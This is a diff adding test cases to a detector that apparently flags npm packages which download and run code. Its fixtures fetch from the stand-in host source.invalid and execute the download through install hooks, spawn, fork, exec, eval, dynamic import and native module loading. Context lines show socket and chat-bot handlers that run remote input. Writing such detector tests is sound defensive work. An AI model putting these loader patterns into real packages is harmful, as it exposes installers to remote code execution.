@@ -6,6 +6,74 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'an installer saves a program where a setting says, and asks it for its version',
+      files: {
+        'package.json': { name: 'specimen', scripts: { install: 'node i.js' } },
+        'i.js': `const fs = require('fs'), cp = require('child_process'); (async () => { const file = process.env.SPECIMEN_BINARY; fs.writeFileSync(file, Buffer.from(await (await fetch('https://source.invalid/a')).arrayBuffer())); cp.execFileSync(file, ['--version']); })();`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'a download is saved under a name made up and started by the variable that holds it',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+(async () => {
+  const file = path.join(os.tmpdir(), Math.random().toString(36).slice(2));
+  const answer = await fetch('https://source.invalid/a');
+  fs.writeFileSync(file, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });
+  cp.spawn(file, [], { detached: true }).unref();
+})();`,
+      },
+    },
+    {
+      when: 'a download is saved where a caller says and forked',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+async function run(file) { const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(file, await answer.text()); cp.fork(file); }
+run(process.argv[2]);`,
+      },
+    },
+    {
+      when: 'a command is put together of the variable',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+(async () => { const file = path.join(os.tmpdir(), String(process.pid)); const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(file, await answer.text()); cp.exec(\`sh \${file}\`); })();`,
+      },
+    },
+    {
+      when: 'a saved download is read again and evaluated',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+(async () => { const file = '/tmp/' + Date.now(); const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(file, await answer.text()); eval(fs.readFileSync(file, 'utf8')); })();`,
+      },
+    },
+    {
+      when: 'a saved download is imported by its address',
+      files: {
+        'package.json': { type: 'module', main: 'index.js' },
+        'index.js': `import { writeFile } from 'node:fs/promises';
+import { pathToFileURL } from 'node:url';
+const file = \`/tmp/\${Date.now()}\`;
+const answer = await fetch('https://source.invalid/a');
+await writeFile(file, await answer.text());
+await import(pathToFileURL(file).href);`,
+      },
+    },
+    {
+      when: 'a saved download gets another name before it is started',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+(async () => { const answer = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/part', await answer.text()); fs.renameSync('/tmp/part', '/tmp/whole'); cp.exec('/tmp/whole'); })();`,
+      },
+    },
+    {
+      when: 'a saved download is a native module',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+(async () => { const file = path.join(os.tmpdir(), 'x.node'); const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(file, Buffer.from(await answer.arrayBuffer())); process.dlopen({ exports: {} }, file); })();`,
+      },
+    },
+    {
       when: 'the handler of a socket evaluates what comes',
       files: {
         'index.js': `const ws = new WebSocket('wss://source.invalid/');
@@ -157,6 +225,28 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
     },
   ],
   silent: [
+    {
+      when: 'a download is saved and unpacked',
+      files: {
+        'package.json': { name: 'specimen', scripts: { install: 'node i.js' } },
+        'i.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+(async () => { const file = process.env.SPECIMEN_BINARY; const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(file, Buffer.from(await answer.arrayBuffer())); cp.execSync(\`chmod +x \${file}\`); cp.execFileSync('tar', ['xf', file]); })();`,
+      },
+    },
+    {
+      when: 'what is started lies in the folder in which a download is saved',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+(async () => { const folder = fs.mkdtempSync(os.tmpdir()); const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(path.join(folder, 'data'), await answer.text()); cp.spawn(path.join(folder, 'tool')); })();`,
+      },
+    },
+    {
+      when: 'a variable has another file in it when something is started',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+exports.go = async (from, to) => { const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(to, await answer.text()); cp.execFileSync(from); };`,
+      },
+    },
     {
       when: 'a socket calls functions of a table that do nothing to the machine',
       files: {
